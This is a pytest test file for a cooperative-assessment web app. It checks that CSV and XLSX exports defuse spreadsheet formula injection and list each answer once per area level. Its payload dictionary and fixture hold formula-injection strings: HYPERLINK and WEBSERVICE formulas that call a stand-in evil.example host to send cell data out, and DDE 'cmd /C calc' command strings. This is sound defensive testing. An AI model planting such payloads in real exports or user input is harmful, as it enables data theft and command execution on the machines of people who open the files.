"""The exports as a spreadsheet opens them: every cell of user text inert, every answer once at every area level."""
import csv
import io
import uuid
from datetime import date

import openpyxl
import pytest
from sqlalchemy import func, select

from app.rollups.cells import inert

from app.assessments.models import Answer, Assessment
from app.assessments.service import parse_answer, save_answer, start, transition
from app.assessments.workflow import APPROVED
from app.auth.models import User
from app.cooperatives.models import Cooperative
from app.cooperatives.seed import seed_cooperatives
from app.extensions import db
from app.instruments.definition import load_text
from app.instruments.models import publish
from app.regions.files import read_regions
from app.regions.models import District, Regency, Village
from app.regions.store import save_regions
from app.roles import ADMIN, FACILITATOR, SUPERVISOR
from tests.support import BEST, DIWEK, INSTRUMENT, REGIONS_DIR, SOURCE, WONOSALAM, add_user
from tests.test_reviews import act

MOJOKERTO, PACET = "35.16", "35.16.03"


def csv_rows(response):
    """The rows of a CSV download, as the bytes of each cell decoded: what a spreadsheet is given."""
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


# --- Formula injection: user text stays text in every export -------------------------------------

# Each payload, and the exact bytes of its CSV cell: OWASP's apostrophe in front of what starts like a
# formula, then the csv module's quoting (a cell with a quote, comma or line break is quoted, quotes doubled).
PAYLOADS = {
    '=HYPERLINK("http://evil.example/x","Klik")': b'"\'=HYPERLINK(""http://evil.example/x"",""Klik"")"',
    '=WEBSERVICE("http://evil.example/?q="&A1)': b'"\'=WEBSERVICE(""http://evil.example/?q=""&A1)"',
    "+1+1+cmd|' /C calc'!A0": b"'+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": b"'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)": b"'@SUM(1+1)",
    "{=SUM(1+1)}": b"{=SUM(1+1)}",  # an array formula in XlsxWriter's eyes; plain text in a CSV
    "external:\\\\evil.example\\share\\x.xlsx": b"external:\\\\evil.example\\share\\x.xlsx",  # a link in an XLSX only
    "http://evil.example/x": b"http://evil.example/x",
}
# Text answers keep what the facilitator typed, leading tab or line break included (names are stripped).
ANSWER_PAYLOADS = {**PAYLOADS, "\t=1+1": b"'\t=1+1", "\r=1+1": b"\"'\r=1+1\"", "\n=1+1": b"\"'\n=1+1\""}
TEXT_INSTRUMENT = """
code: uji-ekspor
title: {id: Uji ekspor, en: Export test}
levels: [{code: rendah, label: {id: Rendah, en: Low}, min: 0}]
sections:
  - code: S
    title: {id: Satu, en: One}
    weight: 100
    questions:
      - {code: yn, type: yesno, text: {id: Ya atau tidak, en: Yes or no}}
      - {code: tx, type: text, text: {id: Catatan, en: Note}}
      - code: ch
        type: choice
        text: {id: Pilihan, en: Choice}
        options:  # the answers export writes an option's label beside its code: instrument text, inert too
          - {code: a, label: {id: '=HYPERLINK("http://evil.example/o","Opsi")', en: Option}, score: 1}
          - {code: b, label: {id: Lain, en: Other}, score: 0}
"""


@pytest.fixture
def hostile(app, jombang, client, auth):
    """Diwek cooperatives renamed by the Dinas to the payloads, each with an approved assessment whose text
    answer is one of ANSWER_PAYLOADS, all through the app's forms: {cooperative id: (name, text answer)}."""
    publish(db.session, load_text(TEXT_INSTRUMENT), TEXT_INSTRUMENT)
    db.session.commit()
    app.config["INSTRUMENT"] = "uji-ekspor"
    ids = db.session.scalars(select(Cooperative.id).join(Cooperative.village).where(Village.district_code == DIWEK)
                             .order_by(Cooperative.id).limit(len(ANSWER_PAYLOADS))).all()
    names = [*PAYLOADS, *(f"Koperasi {n}" for n in range(len(ANSWER_PAYLOADS) - len(PAYLOADS)))]
    made = dict(zip(ids, zip(names, ANSWER_PAYLOADS)))
    auth.login("dinas")
    for cooperative_id, (name, _) in made.items():
        response = client.post(f"/cooperatives/{cooperative_id}/edit", data={"csrf_token": auth.token(), "name": name})
        assert response.status_code == 302
    auth.login("fas.diwek")
    token, started = auth.token("/assessments/"), []
    for cooperative_id, (_, text) in made.items():
        assessment_id = str(uuid.uuid4())
        assert client.post(f"/assessments/new/{cooperative_id}", data={
            "csrf_token": token, "id": assessment_id, "visit_date": "2025-10-14"}).status_code == 302
        for code, value in (("yn", "yes"), ("tx", text), ("ch", "a")):
            assert client.post(f"/assessments/{assessment_id}/answers/{code}", data={code: value},
                               headers={"HX-Request": "true", "X-CSRFToken": token}).status_code == 200
        assert client.post(f"/assessments/{assessment_id}/submit", data={"csrf_token": token}).status_code == 302
        started.append(assessment_id)
    auth.login("supervisor")
    for assessment_id in started:
        assert act(client, auth, assessment_id, "approve").status_code == 302
    stored = dict(db.session.execute(select(Cooperative.id, Cooperative.name).where(Cooperative.id.in_(ids))).all())
    assert stored == {i: name for i, (name, _) in made.items()}
    assert sorted(db.session.scalars(select(Answer.value).where(Answer.question_code == "tx"))) == sorted(ANSWER_PAYLOADS)
    return made


def test_every_text_cell_of_every_export_is_inert(hostile, client, auth):
    auth.login("dinas")
    # The scores CSV: the name's cell, byte for byte, in the row of its cooperative.
    response = client.get(f"/exports/scores.csv?district={DIWEK}", buffered=True)
    body, rows = response.data, csv_rows(response)
    for name, cell in PAYLOADS.items():
        assert b"," + cell + b"," in body, name
        row = next(r for r in rows if r[3] == inert(name))
        assert row[6:8] == ["100", "Rendah"]  # a number stays a plain number
    assert not any(r[3].startswith(("=", "+", "-", "@")) for r in rows)
    # The long CSV: names and text answers.
    response = client.get(f"/exports/answers.csv?district={DIWEK}", buffered=True)
    body, rows = response.data, csv_rows(response)
    for cell in (*PAYLOADS.values(), *ANSWER_PAYLOADS.values()):
        assert b"," + cell + b"," in body, cell
    texts = sorted(r[8] for r in rows[1:] if r[7] == "tx")
    assert texts == sorted(inert(text) for text in ANSWER_PAYLOADS)
    assert {r[8] for r in rows[1:] if r[7] == "yn"} == {"yes"}
    # Beside each code its meaning: Ya for yes; an option's label, inert; nothing for a text, which is words
    assert {(r[7], r[8], r[9]) for r in rows[1:] if r[7] != "tx"} == {
        ("yn", "yes", "Ya"), ("ch", "a", '\'=HYPERLINK("http://evil.example/o","Opsi")')}
    assert {r[9] for r in rows[1:] if r[7] == "tx"} == {""}
    assert b',a,"\'=HYPERLINK(""http://evil.example/o"",""Opsi"")",' in body
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for r in rows for cell in r)
    # The XLSX: every name a string, no formula, no link; the scores numbers.
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/exports/scores.xlsx?district={DIWEK}").data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert all(not sheet._hyperlinks for sheet in book.worksheets)
    names = {cell.value: cell for cell in cells if cell.column == 4}
    for name in PAYLOADS:
        assert names[name].data_type == "s", name
        score = names[name].offset(column=3)
        assert (score.value, score.data_type) == (100, "n")


def test_only_text_that_starts_like_a_formula_is_changed():
    for text in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1"):
        assert inert(text) == "'" + text
    for value in (-3, -2.5, 0, 100, 12.5, None, "", "Koperasi Desa Merah Putih", "35.17.08", "2025-10-14", "yes",
                  "'=1+1", " =1+1", "http://evil.example/x"):
        assert inert(value) == value and type(inert(value)) is type(value)


# --- Each answer once, whatever the level of the area asked for -----------------------------------

def approve(cooperative, facilitator, supervisor, version):
    """An approved assessment of `cooperative` with every question answered."""
    visit = start(uuid.uuid4(), cooperative, facilitator, version, visit_date=date(2025, 10, 1))
    for question in visit.instrument.questions:
        save_answer(visit, question, parse_answer(question, BEST[question.code], False))
    db.session.commit()
    transition(visit, "submit", facilitator, visit.version)
    transition(visit, "approve", supervisor, visit.version)
    return visit.id


@pytest.fixture
def two_regencies(app, jombang, jombang_regions):
    """Jombang and Mojokerto (two regencies of Jawa Timur), approved assessments in Diwek, Wonosalam and Pacet,
    and a national admin."""
    save_regions(db.session, read_regions(REGIONS_DIR, MOJOKERTO))
    seed_cooperatives(db.session, MOJOKERTO)
    add_user("fas.pacet", FACILITATOR, (PACET,))
    add_user("sup.all", SUPERVISOR, (DIWEK, WONOSALAM, PACET))
    add_user("nasional", ADMIN)
    version = publish(db.session, INSTRUMENT, SOURCE)[0]
    db.session.commit()
    user = lambda name: db.session.scalar(select(User).where(User.username == name))  # noqa: E731
    for district, facilitator, n in ((DIWEK, "fas.diwek", 2), (WONOSALAM, "fas.wonosalam", 1), (PACET, "fas.pacet", 1)):
        cooperatives = db.session.scalars(select(Cooperative).join(Cooperative.village)
                                          .where(Village.district_code == district).order_by(Cooperative.id).limit(n))
        for cooperative in cooperatives.all():
            approve(cooperative, user(facilitator), user("sup.all"), version)


def answers_in(clause):
    """(assessment id, question code) of every answer of an approved assessment in the area `clause` selects."""
    return sorted(db.session.execute(
        select(Answer.assessment_id, Answer.question_code).join(Answer.assessment).join(Assessment.cooperative)
        .join(Cooperative.village).join(Village.district).join(District.regency)
        .where(Assessment.status == APPROVED, Answer.value.is_not(None) | Answer.not_applicable, clause)).all())


@pytest.mark.filterwarnings("error::sqlalchemy.exc.SAWarning")  # a cartesian product is a wrong query, not a slow one
def test_the_long_csv_holds_each_answer_once_at_every_area_level(two_regencies, client, auth):
    auth.login("nasional")
    assert db.session.scalar(select(func.count()).select_from(Regency).where(Regency.province_code == "35")) == 2
    for code, clause in ((DIWEK, District.code == DIWEK), ("35.17", District.regency_code == "35.17"),
                         ("35", Regency.province_code == "35"), (None, Regency.code.is_not(None))):
        rows = csv_rows(client.get("/exports/answers.csv" + (f"?area={code}" if code else ""), buffered=True))[1:]
        expected = answers_in(clause)
        assert len(rows) == len(expected), code
        assert sorted((uuid.UUID(r[3]), r[7]) for r in rows) == expected, code
    per_area = {code: len(answers_in(District.code == code)) for code in (DIWEK, WONOSALAM, PACET)}
    assert per_area[DIWEK] == 2 * per_area[PACET] > 0  # two assessments in Diwek, one each elsewhere
